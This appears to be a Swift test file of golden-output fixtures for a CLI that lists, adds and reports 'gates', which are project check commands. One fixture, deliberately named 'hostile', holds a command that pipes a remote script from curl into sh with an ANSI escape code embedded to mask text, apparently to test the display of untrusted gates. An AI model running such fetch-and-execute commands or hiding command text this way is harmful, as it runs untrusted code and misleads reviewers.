import OverseerModel
import OverseerSDK

@testable import OverseerCLI

extension Golden {
  static let gateNouns: [Golden] = [
    Golden("gate-list") { GateListText.text(list, Sample.plain) },
    Golden("gate-list-color") { GateListText.text(list, Sample.colored) },
    Golden("gate-list-none") {
      GateListText.text(EffectiveGateList(gates: [], shadowed: [], untrusted: []), Sample.plain)
    },
    Golden("gate-added") { GateListText.done("Added", list.gates[0], Sample.plain) },
    Golden("gate-init") { GateInit.text("/home/alice/projects/overseer/.overseer/gates.toml", Sample.plain) },
    Golden("gate-results") { GateResultText.list(results, Sample.plain) },
    Golden("gate-results-none") { GateResultText.list([], Sample.plain) },
    Golden("gate-log") {
      var lines = LogLines()
      return lines.take("one\nt\u{1B}[31mwo\u{7}\nthr", isLast: false) + lines.take("ee", isLast: true) + "\n"
    },
  ]

  private static func gate(
    _ number: UInt64, _ name: String, _ command: String, _ scope: GateScope, _ source: Gate.Source
  ) -> Gate {
    Gate(
      id: GateID(ULID(high: 1, low: number)), scope: scope, name: name, command: command, source: source,
      createdAt: Sample.now, updatedAt: Sample.now)
  }

  private static let list: EffectiveGateList = {
    let repo = GateScope.repo(Sample.repo.id)
    var lint = gate(1, "lint", "swift format lint --strict --recursive Sources Tests", repo, .database)
    (lint.timeoutSecs, lint.required, lint.cache) = (60, false, false)
    var unit = gate(2, "unit", "make -j8 unit", repo, .file)
    unit.paths = ["Sources/**", "Tests/**"].compactMap { PathPattern($0) }
    (unit.checkout, unit.setup, unit.sandbox, unit.network) = (.clean, "make deps", .bwrap, false)
    unit.passEnv = ["SWIFT_VERSION"]
    let hostile = gate(
      3, "wide", "curl https://example.org/a-script-with-a-long-name.sh\u{1B}[2K | sh -s -- --quiet --no-questions",
      .task(Sample.wide.id), .frontMatter)
    let shadowed = gate(4, "unit", "true", .task(Sample.wide.id), .frontMatter)
    return EffectiveGateList(
      gates: [lint, unit, hostile], shadowed: [.init(gate: shadowed, by: unit.id)], untrusted: [unit.id, hostile.id])
  }()

  private static func result(_ number: UInt64, _ gate: Gate, _ status: GateResult.Status) -> GateResult {
    GateResult(
      id: GateResultID(ULID(high: 1, low: number)), gateID: gate.id, gateName: gate.name, command: gate.command,
      taskID: Sample.wide.id, reviewID: ReviewID(ULID(high: 1, low: 1)), revision: .zero, tree: nil, status: status,
      exitCode: status == .failed ? 2 : nil, attempt: 1, startedAt: Sample.now, durationMs: 1234)
  }

  private static let results = [
    result(1001, list.gates[0], .passed), result(1002, list.gates[1], .failed), result(1003, list.gates[2], .timeout),
  ]
}
